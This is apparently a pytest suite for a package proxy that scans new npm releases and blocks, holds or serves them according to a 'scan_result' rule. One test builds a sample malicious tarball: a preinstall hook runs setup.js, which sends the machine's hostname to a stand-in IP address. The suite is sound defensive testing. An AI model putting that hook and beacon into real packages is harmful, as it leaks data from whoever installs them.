"""First downloads through the proxy: young releases are scanned before their first byte, where the rule counts."""

from __future__ import annotations

import asyncio
import hashlib

import pytest

from pratique.core.actors import OPERATOR
from pratique.core.decisions import Mode
from pratique.core.limits import ScanWaiting
from pratique.core.names import EcosystemId, ProjectKey
from pratique.core.scans import Verdict
from pratique.services.governing.rule_settings import SetRule, set_rule
from pratique.store import scans
from tests.harness import packages
from tests.harness.lookalike_packages import WORST, harmful, harmless
from tests.harness.plain_registry import PlainRegistry, Release
from tests.harness.site import Site
from tests.protocol.conftest import ON_SQLITE
from tests.protocol.speakers import NpmSpeaker, Speaker

NPM = NpmSpeaker("full", "application/json")
PATH = NPM.path("left", "1.0.1")


async def enforced(site: Site, mode: Mode = Mode.ENFORCE) -> None:
    await set_rule(site.ports, SetRule(rule="scan_result", mode=mode), OPERATOR)


def young(registry: PlainRegistry, speaker: Speaker, version: str, content: bytes, days: float = 10) -> Release:
    release = speaker.released(registry, "left", version, days=days)
    release.content = content
    return release


async def scanned(site: Site) -> int:
    """Artefacts that the scanner has looked at."""
    state = await site.ports.scanner.state()
    return 0 if state is None else state.scanned


async def test_a_look_alike_is_refused_with_the_sentence_and_its_harmless_twin_is_served(
    site: Site, registry: PlainRegistry, client: Speaker
) -> None:
    await enforced(site)
    good = young(registry, client, "1.0.0", harmless(client.ecosystem, "left", "1.0.0"))
    bad = young(registry, client, "1.0.1", harmful(client.ecosystem, "left", "1.0.1"))

    refused = await site.get(client.path("left", "1.0.1"), site.token)
    served = await site.get(client.path("left", "1.0.0"), site.token)

    assert refused.status == 403
    assert "Blocked by policy scan_result: left@1.0.1 looks harmful: " + WORST[client.ecosystem] in refused.reason
    assert bad.content not in refused.body
    assert (served.status, served.body) == (200, good.content)
    again = await site.get(client.path("left", "1.0.1"), site.token)
    assert (again.status, registry.downloads(bad.filename)) == (403, 1), "what is known is not fetched again"


@ON_SQLITE
@pytest.mark.parametrize("mode", [Mode.DRY_RUN, Mode.OFF])
async def test_where_the_rule_does_not_count_nobody_waits_for_a_scan(
    site: Site, registry: PlainRegistry, mode: Mode
) -> None:
    await enforced(site, mode)
    bad = young(registry, NPM, "1.0.1", harmful("npm", "left", "1.0.1"))

    assert (await site.get(PATH, site.token)).body == bad.content
    assert await site.ports.scanner.state() is None


@ON_SQLITE
async def test_an_older_release_is_served_without_a_scan(site: Site, registry: PlainRegistry) -> None:
    await enforced(site)
    old = young(registry, NPM, "1.0.1", harmful("npm", "left", "1.0.1"), days=31)

    assert (await site.get(PATH, site.token)).body == old.content
    assert await site.ports.scanner.state() is None


@ON_SQLITE
async def test_head_fetches_and_scans_nothing(site: Site, registry: PlainRegistry) -> None:
    await enforced(site)
    release = young(registry, NPM, "1.0.1", harmful("npm", "left", "1.0.1"))

    assert (await site.ask("HEAD", PATH, site.token)).status == 200
    assert registry.downloads(release.filename) == 0
    assert await site.ports.scanner.state() is None


@ON_SQLITE
async def test_what_was_stored_before_the_rule_counted_is_scanned_before_it_is_served_again(
    site: Site, registry: PlainRegistry
) -> None:
    bad = young(registry, NPM, "1.0.1", harmful("npm", "left", "1.0.1"))
    assert (await site.get(PATH, site.token)).status == 200
    await enforced(site)

    refused = await site.get(PATH, site.token)

    assert refused.status == 403
    assert "looks harmful" in refused.reason
    assert registry.downloads(bad.filename) == 1
    assert NPM.offered(await NPM.listing(site, "left", site.token)) == []


@ON_SQLITE
@pytest.mark.parametrize("asked", [{}, {"Range": "bytes=0-9"}], ids=["whole", "range"])
async def test_who_would_wait_too_long_for_a_scan_is_told_to_come_back_and_the_scan_goes_on(
    site: Site, registry: PlainRegistry, asked: dict[str, str]
) -> None:
    await enforced(site)
    site.ports.scans_under_way.waiting = ScanWaiting(within=1, retry_after=7)
    good = young(registry, NPM, "1.0.1", harmless("npm", "left", "1.0.1"))

    answer = await site.get(PATH, site.token, **asked)
    assert (answer.status, answer.headers["Retry-After"]) == (503, "7")
    assert "left-1.0.1.tgz is being scanned" in answer.text

    async with asyncio.timeout(600):
        while answer.status == 503:
            await asyncio.sleep(0.05)
            answer = await site.get(PATH, site.token, **asked)
    assert answer.body == good.content[: 10 if asked else None]
    assert registry.downloads(good.filename) == 1, "it is resumed, never begun again"
    assert await scanned(site) == 1


@ON_SQLITE
async def test_all_who_ask_at_once_wait_for_one_scan(site: Site, registry: PlainRegistry) -> None:
    await enforced(site)
    good = young(registry, NPM, "1.0.1", harmless("npm", "left", "1.0.1"))

    answers = await asyncio.gather(*(site.get(PATH, site.token) for _ in range(8)))

    assert [answer.body for answer in answers] == [good.content] * 8
    assert (await scanned(site), registry.downloads(good.filename)) == (1, 1)


@ON_SQLITE
async def test_a_release_that_turns_bad_is_compared_with_the_one_before(site: Site, registry: PlainRegistry) -> None:
    """Nobody knows its payload: a hook that was not there before, and runs a file that was not there."""
    await enforced(site)
    first = young(registry, NPM, "1.0.0", packages.npm_tarball("left", "1.0.0"), days=60)
    hook = {"scripts": {"preinstall": "node setup.js"}}
    payload = {"setup.js": "require('https').get('https://198.51.100.7/' + require('os').hostname());\n"}
    second = packages.npm_tarball("left", "1.0.1", manifest=hook, files=payload)
    young(registry, NPM, "1.0.1", second)
    assert (await site.get(NPM.path("left", "1.0.0"), site.token)).status == 200

    await site.get(PATH, site.token)

    key = ProjectKey(EcosystemId("npm"), "left")
    found = await site.ports.db.read(scans.find, key, hashlib.sha256(second).hexdigest())
    assert found is not None
    assert found.previous == hashlib.sha256(first.content).hexdigest()
    assert "difference" in found.findings
    assert found.result.verdict is Verdict.QUARANTINE


@ON_SQLITE
async def test_without_a_scanner_nothing_young_is_served(site: Site, registry: PlainRegistry) -> None:
    await enforced(site)
    young(registry, NPM, "1.0.1", harmless("npm", "left", "1.0.1"))
    await site.ports.scanner.close()

    answer = await site.get(PATH, site.token)

    assert answer.status == 403
    assert "the scanner does not work at this moment" in answer.reason


@ON_SQLITE
async def test_a_hold_ends_by_itself_and_warns_from_then_on(site: Site, registry: PlainRegistry) -> None:
    await enforced(site)
    bad = young(registry, NPM, "1.0.1", harmful("npm", "left", "1.0.1"))
    assert (await site.get(PATH, site.token)).status == 403

    site.clock.set("+15d")
    answer = await site.get(PATH, site.token)

    assert (answer.status, answer.body) == (200, bad.content)
    assert "looks harmful" in answer.headers["npm-notice"]
